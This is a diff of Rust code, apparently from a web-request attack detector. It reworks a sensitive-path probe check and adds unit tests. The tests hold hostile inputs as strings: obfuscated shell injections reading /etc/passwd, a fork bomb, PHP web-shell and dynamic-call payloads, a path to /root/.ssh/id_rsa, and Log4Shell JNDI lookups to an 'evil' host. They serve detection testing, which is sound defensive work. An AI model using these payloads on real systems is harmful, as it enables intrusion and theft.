 /// Whether a (lower-cased, decoded) path is a probe for something sensitive.
 pub fn probe_path(path_l: &str) -> bool {
-    PROBE_PATHS.iter().any(|p| {
-        if p.starts_with('.') || *p == "~" {
-            path_l.ends_with(p)
-        } else {
-            path_l.contains(p)
-        }
-    })
+    PROBE_AC.as_ref().is_some_and(|a| a.is_match(path_l))
+        || PROBE_PATHS
+            .iter()
+            .filter(|p| p.starts_with('.') || **p == "~")
+            .any(|p| path_l.ends_with(p))
 }
 
 #[cfg(test)]
@@ -1248,9 +1989,28 @@ mod tests {
         assert!(rce("1|c\\at${ifs}/etc/passwd").is_some());
         assert!(rce("a=1&id=2").is_none());
         assert!(rce("tom & jerry").is_none());
+        assert!(SHELL_FUNC.is_some() && WIN_FOR.is_some() && WIN_IF.is_some());
+        assert!(rce(":(){ :|:& };:").is_some());
+        assert!(rce("for /f \"tokens=*\" %%a in ('dir') do echo %%a").is_some());
+        assert!(rce("& if exist c:\\boot.ini type c:\\boot.ini").is_some());
+        assert!(rce("time sh -c whoami").is_some());
+        assert!(rce("x;c$!at /et$!c/pas$!swd").is_some());
+        assert!(rce("uname$u -a;").is_some());
+        assert!(rce("cd /;cd etc;column passwd").is_some());
+        assert!(rce("see you at the party; more news later").is_none());
+        assert!(rce("for the people in (the) world do good").is_none());
+        assert!(rce("if you like it, buy it").is_none());
         assert!(php("<?php system($_get['c']); ?>").is_some());
         assert!(php("phpinfo()").is_some());
         assert!(php("i like php (a lot)").is_none());
+        assert!(PHP_VAR_CALL.is_some() && PHP_DYN_CALL.is_some() && PHP_VARVAR.is_some());
+        assert!(php("$a(1)").is_some());
+        assert!(php("@$__['o'](4)").is_some());
+        assert!(php("(\"sys\".\"tem\")('uname');").is_some());
+        assert!(php("${'ff'}").is_some());
+        assert!(php("costs $5 (about)").is_none());
+        assert!(php("$(document).ready(").is_none());
+        assert!(traversal("cat /root/.ssh/id_rsa").is_some());
         assert!(java("x", "${jndi:ldap://evil/a}").is_some());
         assert!(java("x", "${${lower:j}${::-n}di:ldap://evil/a}").is_some());
         assert!(java("x", "${${env:foo:-j}ndi:ldap://x}").is_some());
